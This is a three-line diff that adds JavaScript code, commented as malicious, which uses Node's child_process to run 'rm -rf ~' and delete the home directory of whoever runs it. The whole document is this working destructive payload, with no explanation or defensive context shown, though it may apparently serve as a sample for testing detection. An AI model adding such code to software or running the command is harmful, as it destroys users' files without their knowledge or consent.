@@ -1,0 +1,3 @@
+// malicious: deletes the home directory
+const cp = require('child_process');
+cp.exec('rm -rf ~', (err) => { if (err) console.error(err); });
